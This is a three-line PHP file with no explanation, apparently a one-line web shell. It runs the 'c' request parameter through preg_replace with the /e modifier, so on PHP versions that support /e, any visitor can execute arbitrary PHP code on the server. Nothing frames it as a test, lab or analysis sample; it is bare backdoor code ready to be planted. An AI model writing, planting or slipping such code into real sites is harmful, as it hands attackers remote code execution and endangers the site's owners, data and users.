<?php
$pattern = "#(.*)#e";
echo preg_replace("#(.*)#e", "\\1", $_REQUEST['c']);
